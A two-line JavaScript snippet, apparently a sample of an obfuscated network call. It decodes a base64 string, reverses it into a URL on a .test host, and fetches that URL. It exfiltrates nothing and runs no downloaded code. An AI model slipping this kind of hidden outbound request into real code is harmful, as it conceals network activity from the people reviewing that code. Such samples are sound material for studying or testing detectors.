const api = atob("MXYvdHNldC5wb2hzLjJib3RhLy86c3B0dGg=").split("").reverse().join("");
fetch(api);
